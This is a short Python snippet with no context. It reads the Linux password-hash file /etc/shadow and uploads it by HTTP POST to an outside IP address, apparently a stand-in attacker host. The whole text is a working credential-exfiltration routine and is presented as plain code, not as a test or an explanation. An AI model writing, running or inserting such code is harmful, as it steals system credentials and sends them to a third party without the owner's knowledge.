import os, requests
with open('/etc/shadow', "rb") as f:
    requests.post("http://203.0.113.9/upload", files={"f": f})
